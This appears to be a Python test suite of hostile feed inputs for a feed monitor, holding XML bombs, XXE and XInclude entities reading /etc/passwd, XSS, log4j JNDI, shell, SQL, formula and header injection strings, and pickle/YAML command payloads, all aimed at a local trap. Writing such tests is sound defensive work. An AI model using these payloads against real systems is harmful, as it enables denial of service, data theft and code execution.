"""Hostile bodies of feeds: XML, JSON and sitemaps that want to crash, stall, escape or lie."""

import json
from collections.abc import Iterator

from monitor.domain.feeds.feed import FeedKind
from tests.hostile.stand import Kind, Stand

HEAD = "<?xml version='1.0'?>"
ANY = r"(ok|error) \d+( damaged)?"
ONE = r"ok 1( damaged)?"
ZERO = "(ok|error) 0"


def rss(item: str, head: str = HEAD, inside: str = "") -> bytes:
    """Write an RSS feed around one item."""
    return f"{head}<rss version='2.0'><channel><title>Wire</title>{inside}<item>{item}</item></channel></rss>".encode(
        "utf-8", "surrogatepass"
    )


def titled(title: str, more: str = "<guid>1</guid>") -> bytes:
    return rss(f"<title>{title}</title>{more}")


def kinds() -> Iterator[Kind]:
    """List all of them."""
    for name, body, right in (*_bombs(), *_text(), *_links(), *_identities(), *_dates(), *_broken(), *_shapes()):
        yield Kind("feed", name, _serve(body), right)
    for name, body, right in _slow():
        yield Kind("feed", name, _serve(body), right, slow=True)
    yield from _charsets()
    yield from _json()
    yield from _sitemaps()


def _serve(body: bytes, content_type: str = "application/rss+xml", kind: FeedKind = FeedKind.FEED):
    def play(stand: Stand) -> str:
        return stand.feed(body.replace(b"TRAP", f"127.6.6.6:{stand.trap}".encode()), content_type, kind)

    return play


def _bombs() -> Iterator[tuple[str, bytes, str]]:
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
    yield "a billion laughs", titled("&l11;").replace(b"<rss", f"<!DOCTYPE r [<!ENTITY l0 'ha'>{laughs}]><rss".encode(), 1), ANY
    big = f"<!DOCTYPE r [<!ENTITY a '{'a' * 100_000}'>]>"
    yield "a quadratic expansion", titled("&a;" * 20_000).replace(b"<rss", big.encode() + b"<rss", 1), ANY
    for name, where in (
        ("a file", "file:///etc/passwd"),
        ("a device", "file:///dev/zero"),
        ("the web", "http://TRAP/x"),
        ("ftp", "ftp://TRAP/x"),
    ):
        yield f"an entity from {name}", titled("&x;").replace(b"<rss", f"<!DOCTYPE r [<!ENTITY x SYSTEM '{where}'>]><rss".encode(), 1), ANY
        yield f"a DTD from {name}", titled("t").replace(b"<rss", f"<!DOCTYPE r SYSTEM '{where}'><rss".encode(), 1), ANY
        parameter = f"<!DOCTYPE r [<!ENTITY % p SYSTEM '{where}'> %p;]><rss".encode()
        yield f"a parameter entity from {name}", titled("t").replace(b"<rss", parameter, 1), ANY
    yield "an entity within itself", titled("&a;").replace(b"<rss", b"<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><rss", 1), ANY
    include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"
    yield "XInclude", rss(f"<title>{include}</title><guid>1</guid>"), ANY
    yield "a stylesheet", titled("t", "<guid>1</guid>").replace(b"<rss", b"<?xml-stylesheet href='http://TRAP/x.xsl'?><rss", 1), ONE
    yield "a DOCTYPE of backslashes", titled("t").replace(b"<rss", b"<!DOCTYPE " + b"\\" * 5000 + b"><rss", 1), ANY
    yield "a DOCTYPE without end", b"<!DOCTYPE r [" + b"<!ENTITY a 'b'>" * 50_000, "error 0"
    yield "a comment of 5 MB", titled("t").replace(b"<rss", b"<!--" + b"-" * 5_000_000 + b"--><rss", 1), ANY
    yield "nested 10,000 deep", rss("<a>" * 10_000 + "</a>" * 10_000 + "<title>t</title>"), ANY
    yield "a title nested 5,000 deep", titled("<b>" * 5_000 + "t" + "</b>" * 5_000), ANY
    yield "20,000 namespaces", rss("<title>t</title>", inside="<x " + " ".join(f"xmlns:n{n}='u{n}'" for n in range(20_000)) + "/>"), ANY
    yield (
        "10,000 enclosures",
        rss("<title>t</title><guid>1</guid>" + "<enclosure url='http://TRAP/a.mp3' type='a/b' length='1'/>" * 10_000),
        ANY,
    )
    yield "10,000 categories", rss("<title>t</title><guid>1</guid>" + "<category>c</category>" * 10_000), ANY
    yield "10,000 titles of one entry", rss("<title>t</title>" * 10_000 + "<guid>1</guid>"), ANY
    yield "a name of 1 MB", rss("<" + "a" * 1_000_000 + "/><title>t</title>"), ANY


def _slow() -> Iterator[tuple[str, bytes, str]]:
    yield "40,000 attributes", rss("<title>t</title><x " + " ".join(f"a{n}='b'" for n in range(40_000)) + "/>"), ANY
    yield "400,000 attributes", rss("<title>t</title><x " + " ".join(f"a{n}='b'" for n in range(400_000)) + "/>"), ANY
    yield "50,000 comments that do not end", rss("<title>t</title>" + "<!--" * 50_000), ANY
    yield "500,000 comments that do not end", rss("<title>t</title>" + "<!--" * 500_000), ANY
    yield "200,000 CDATA sections that do not end", rss("<title>" + "<![CDATA[" * 200_000), ANY
    yield "nested 200,000 deep", rss("<a>" * 200_000 + "<title>t</title>"), ANY
    items = "".join(f"<item><guid>{n}</guid><title>t{n}</title></item>" for n in range(100_000))
    yield "100,000 entries", rss("<title>t</title>", inside=items), ANY
    yield "2,000,000 empty tags", rss("<title>t</title>" + "<a/>" * 2_000_000), ANY
    yield "a title of 10 MB", titled("t" * 10_000_000), ANY
    yield "a description of 14 MB of markup", rss(f"<title>t</title><description>{'&lt;b&gt;x' * 1_200_000}</description>"), ANY
    yield "1,000,000 references", titled("&#38;" * 1_000_000), ANY
    yield "a title of 1,000,000 combining marks", titled("a" + "\u0301" * 1_000_000), ANY


def _text() -> Iterator[tuple[str, bytes, str]]:
    for reference in (
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&#xFFFFFFFF;",
        "&#-1;",
        "&#xFFFE;",
        "&#27;",
        "&#x202E;",
        "&#99999999999999999999;",
        "&#;",
    ):
        yield f"the reference {reference}", titled(f"A{reference}B"), r"(ok 1|error 0)( damaged)?"
    for name, wild in (
        ("a NUL", "\x00"), ("an escape", "\x1b[31m"), ("a bell", "\x07"), ("C1 controls", "\x85\x9b\x9f"), ("a lone surrogate", "\ud800"),
        ("noncharacters", "\ufffe\uffff\U0001ffff"), ("bidi overrides", "\u202egnp.exe"), ("isolates", "\u2066\u2067\u2068"),
        ("zero width", "\u200b\u200c\u200d\u2060\ufeff"), ("tag characters", "\U000e0041\U000e0042"), ("zalgo", "Z\u0351\u0326" * 200),
        ("line separators", "\u2028\u2029\x0b\x0c"), ("private use", "\ue000\uf8ff"), ("NFD", "е\u0308"), ("soft hyphens", "\u00ad" * 500),
        ("variation selectors", "\ufe0f" * 500), ("Hangul fillers", "\u3164\u115f"), ("a word of 3000", "x" * 3000),
    ):  # fmt: skip
        yield f"a title with {name}", titled(f"A {wild} B"), r"(ok 1|error 0)( damaged)?"
    for name, markup in (
        ("a script", "<script>alert(1)</script>"), ("an image", "<img src=x onerror=alert(1)>"), ("an svg", "<svg/onload=alert(1)>"),
        ("mutation XSS", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"),
        ("an iframe", "<iframe src='http://TRAP/'></iframe>"), ("a base", "<base href='http://TRAP/'>"), ("a style", "<style>*{}</style>"),
        ("a template", "{{7*7}} ${7*7} {0.__class__} %(x)s #{7*7} <%= 7*7 %>"), ("log4j", "${jndi:ldap://TRAP/x}"), ("a shell", "`id` $(id) ; id | id"),
        ("a formula", "=cmd|' /C calc'!A0"), ("Markdown", "[a](javascript:alert(1)) ![b](http://TRAP/) @everyone <!channel>"),
        ("SQL", "'); DROP TABLE entries; --"), ("a path", "../../../../etc/passwd"), ("header lines", "a\r\nBcc: x@y.example\r\n\r\nhi"),
    ):  # fmt: skip
        escaped = markup.replace("&", "&amp;").replace("<", "&lt;")
        yield f"a title with {name}", titled(escaped), ONE
        yield f"a description with {name}", rss(f"<title>t</title><guid>1</guid><description><![CDATA[{markup}]]></description>"), ONE


def _links() -> Iterator[tuple[str, bytes, str]]:
    links = (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "ftp://a.example/",
        "//a.example/x", "/x", "x", "", "http://", "http://[::1", "http://a.example/\r\nX: y", "http://a.example/ b", "http://a.example\\@b.example/",
        "http://u:p@a.example/", "http://a.example/" + "a" * 100_000, "http://a.example/\u202e", "http://" + "a" * 300, "http://a.example:99999/",
        "mailto:a@b.example", "urn:x", "tel:1", "|touch x", "http://127.6.6.6/", "http://a.example/?" + "&".join(f"utm_{n}=x" for n in range(5000)),
    )  # fmt: skip
    for number, link in enumerate(links):
        escaped = link.replace("&", "&amp;")
        yield f"the link {link[:24]!a} ({number})", rss(f"<title>t</title><guid>1</guid><link>{escaped}</link>"), ONE


def _identities() -> Iterator[tuple[str, bytes, str]]:
    for name, guid in (
        ("of 1 MB", "g" * 1_000_000), ("of blanks", "   "), ("of SQL", "' OR 1=1 --"), ("of a formula", "=1+1"), ("that is a link", "http://a.example/?utm_source=x"),
        ("of one letter in two forms", "e\u0301"), ("in another case", "GUID"), ("of 6000 letters before the difference", "a" * 6000 + "b"),
    ):  # fmt: skip
        yield f"a guid {name}", titled("t", f"<guid>{guid}</guid>"), ONE
    same = "".join(f"<item><guid>same</guid><title>t{n}</title><link>http://a.example/{n}</link></item>" for n in range(50))
    yield "one guid for 50 entries", rss("<title>t</title>", inside=same), "ok 51"
    link = "".join(f"<item><title>t{n}</title><link>http://a.example/</link></item>" for n in range(50))
    yield "one link for 50 entries", rss("<title>t</title>", inside=link), "ok 51"
    yield (
        "3000 entries",
        rss("<title>t</title>", inside="".join(f"<item><title>t{n}</title></item>" for n in range(3000))),
        "ok 2000( damaged)?",
    )
    yield "an entry of nothing", rss(""), ZERO


def _dates() -> Iterator[tuple[str, bytes, str]]:
    for date in (
        "", "yesterday", "0", "1e99", "-1", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "Mon, 01 Jan 10000 00:00:00 GMT",
        "Mon, 01 Jan 0000 00:00:00 GMT", "Sat, 31 Dec 2016 23:59:60 GMT", "Sun, 29 Mar 2026 02:30:00 +0100", "Mon, 09 Nov 2026 12:00:00 +9999",
        "Mon, 09 Nov 2026 25:61:61 GMT", "Mon, 32 Nov 2026 12:00:00 GMT", "2026-02-30T00:00:00Z", "9" * 5000, "2099-01-01", "1793966400000",
        "Пн, 09 ноя 2026 12:00:00 +0300", "Mon, 09 Nov 2026 12:00:00 XXX", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
    ):  # fmt: skip
        yield f"the date {date[:30]!a}", titled("t", f"<guid>1</guid><pubDate>{date}</pubDate>"), ONE


def _broken() -> Iterator[tuple[str, bytes, str]]:
    whole = rss("<title>t2</title>", inside="<item><guid>1</guid><title>t1</title></item>")
    for share in (10, 25, 50, 75, 90):
        yield f"cut at {share} %", whole[: len(whole) * share // 100], ANY
    yield "two feeds one behind the other", whole + whole, ANY
    yield "rubbish before", b"rubbish" + whole, ANY
    yield "rubbish behind", whole + b"\x00\xff rubbish", ANY
    yield "a broken tag", whole.replace(b"</title>", b"</titel>"), ANY
    yield "an unknown entity", titled("A &nbsp;&foo; B"), ONE
    yield "a bare ampersand", titled("A & B"), ONE
    yield "attributes without quotes", whole.replace(b"'2.0'", b"2.0"), ANY
    yield "upper case", whole.upper(), ANY
    yield "every byte flipped", bytes(255 - byte for byte in whole), "error 0"


def _shapes() -> Iterator[tuple[str, bytes, str]]:
    yield "nothing", b"", "error 0"
    yield "blanks", b" \r\n\t" * 100, "error 0"
    yield "zeros", bytes(10_000), "error 0"
    yield "an empty rss", b"<rss/>", ZERO
    yield "an empty Atom", b"<feed xmlns='http://www.w3.org/2005/Atom'/>", ZERO
    yield "some other XML", b"<?xml version='1.0'?><note><to>x</to></note>", "error 0"
    yield "OPML", b"<opml version='2.0'><body><outline text='a' xmlUrl='http://TRAP/'/></body></opml>", "error 0"
    yield "SOAP", b"<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'><s:Body/></s:Envelope>", "error 0"
    yield "a page", b"<!doctype html><html><head><title>Hi</title></head><body><p>no feed</p></body></html>", "error 0"
    yield "a bot wall", b"<html><head><title>Just a moment...</title></head><body>Checking your browser</body></html>", "error 0"
    yield "a parked domain", b"<html><body>This domain is for sale</body></html>", "error 0"
    yield (
        "a page that names feeds",
        b"<html><head><link rel='alternate' type='application/rss+xml' href='http://TRAP/feed'></head></html>",
        "error 0",
    )
    yield "an error page with a feed in it", b"<html><body><pre>&lt;rss&gt;</pre>" + titled("t")[21:] + b"</body></html>", ANY
    for name, start in (
        ("a PDF", b"%PDF-1.7"),
        ("a ZIP", b"PK\x03\x04"),
        ("a PNG", b"\x89PNG\r\n\x1a\n"),
        ("an ELF", b"\x7fELF"),
        ("gzip", b"\x1f\x8b\x08"),
    ):
        yield name, start + bytes(range(256)) * 20, "error 0"
    yield "plain text", b"hello " * 1000, "error 0"
    yield "a pickle", b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.", "error 0"
    yield "YAML", b"!!python/object/apply:os.system ['id']", "error 0"


def _charsets() -> Iterator[Kind]:
    title, right = "Байқоңыр ғарыш айлағы", r"(ok 1|error 0)( damaged)?"
    names = (
        "undefined", "idna", "punycode", "base64", "rot13", "zlib", "hex", "bz2", "uu", "quopri", "unicode_escape", "raw_unicode_escape", "utf-7",
        "utf-16", "utf-32", "hz", "iso-2022-jp", "iso-2022-kr", "ebcdic-cp-us", "x-user-defined", "latin9", "koi8-u", "none", "null", "mbcs", "oem",
        "utf8mb4", "UTF 8", "utf-8; x", "../../x", "x" * 10_000,
    )  # fmt: skip
    for name in names:
        body = titled(title).replace(b"version='1.0'", f"version='1.0' encoding='{name}'".encode(), 1)
        yield Kind("charset", f"declares {name[:20]}", _serve(body), right)
        yield Kind("charset", f"said to be {name[:20]}", _serve(titled(title), f"text/xml; charset={name}"), right)
    for name, mark, codec in (
        ("a UTF-8 mark over windows-1251", b"\xef\xbb\xbf", "windows-1251"), ("UTF-16 LE", b"\xff\xfe", "utf-16-le"), ("UTF-16 BE", b"\xfe\xff", "utf-16-be"),
        ("UTF-32 LE", b"\xff\xfe\x00\x00", "utf-32-le"), ("UTF-16 without a mark", b"", "utf-16-le"), ("the wrong mark", b"\xfe\xff", "utf-8"), ("KOI8-R", b"", "koi8-r"),
    ):  # fmt: skip
        yield Kind("charset", name, _serve(mark + titled(title).decode().encode(codec, "replace")), right)
    yield Kind(
        "charset", "bytes that are no UTF-8 in the middle", _serve(titled(title).replace(b"\xd0\xb9", b"\xd0\xff", 1)), "ok 1( damaged)?"
    )
    yield Kind("charset", "half a letter at the end", _serve(titled(title)[:-1] + b"\xd0"), r"(ok 1|error 0)( damaged)?")


def _json() -> Iterator[Kind]:
    feed = "https://jsonfeed.org/version/1.1"

    def said(items: object) -> bytes:
        return json.dumps({"version": feed, "title": "t", "items": items}).encode()

    for name, body in (
        ("items of null", said(None)), ("items of a number", said(7)), ("items of text", said("items")), ("an item of null", said([None])),
        ("an item of a list", said([[]])), ("a title of a list", said([{"id": "1", "title": [1, 2]}])), ("a title of an object", said([{"id": "1", "title": {}}])),
        ("an id of a number", said([{"id": 7, "title": "t"}])), ("an id of infinity", said([{"id": float("inf"), "title": "t"}])),
        ("a surrogate", said([{"id": "1", "title": "A\ud800B"}])), ("a url of an object", said([{"id": "1", "title": "t", "url": {"a": "b"}}])),
        ("a date of a number", said([{"id": "1", "title": "t", "date_published": 1e300}])), ("authors of text", said([{"id": "1", "title": "t", "authors": "x"}])),
        ("nested 100,000 deep", b"[" * 100_000), ("objects 100,000 deep", b'{"a":' * 100_000), ("a number of 10,000 digits", said([]).replace(b"[]", b"9" * 10_000)),
        ("1e999999", said([]).replace(b"[]", b"1e999999")), ("NaN", said([]).replace(b"[]", b"NaN")), ("a key twice", b'{"version":"%s","items":[],"items":[{}]}' % feed.encode()),
        ("cut", said([{"id": "1", "title": "t"}])[:-5]), ("text", b'"just text"'), ("a number", b"7"), ("a comment", b"// no\n{}"), ("another version", b'{"version":"https://x.example/","items":[]}'),
        ("JSON lines", b'{"a":1}\n{"a":2}'), ("a mark before", b"\xef\xbb\xbf" + said([{"id": "1", "title": "t"}])), ("__proto__", b'{"__proto__":{"x":1},"items":[{"title":"t"}]}'),
    ):  # fmt: skip
        yield Kind("json", name, _serve(body, "application/feed+json"), ANY)
        yield Kind("json", f"{name}, as a list", _serve(body, "application/json", FeedKind.JSON), ANY)


def _sitemaps() -> Iterator[Kind]:
    space = "xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' xmlns:n='http://www.google.com/schemas/sitemap-news/0.9'"
    row = "<url><loc>http://a.example/{}</loc><n:news><n:title>t{}</n:title></n:news></url>"
    for name, inside in (
        ("nothing", ""), ("a loc of a file", "<url><loc>file:///etc/passwd</loc><n:news><n:title>t</n:title></n:news></url>"),
        ("20,000 rows", "".join(row.format(n, n) for n in range(20_000))), ("no news", "<url><loc>http://a.example/</loc></url>"),
        ("an odd date", "<url><loc>http://a.example/</loc><lastmod>never</lastmod><n:news><n:title>t</n:title></n:news></url>"),
    ):  # fmt: skip
        body = f"<urlset {space}>{inside}</urlset>".encode()
        yield Kind("sitemap", name, _serve(body, "text/xml", FeedKind.SITEMAP), ANY, slow=len(body) > 1_000_000)
    inside = "<sitemap><loc>http://TRAP/x.xml</loc></sitemap>" * 100
    yield Kind(
        "sitemap",
        "an index that leads inside",
        _serve(f"<sitemapindex {space}>{inside}</sitemapindex>".encode(), "text/xml", FeedKind.SITEMAP),
        ANY,
    )
    itself = f"<sitemapindex {space}><sitemap><loc>http://127.0.0.1/feed</loc></sitemap></sitemapindex>".encode()
    yield Kind("sitemap", "an index of itself", _serve(itself, "text/xml", FeedKind.SITEMAP), ANY)
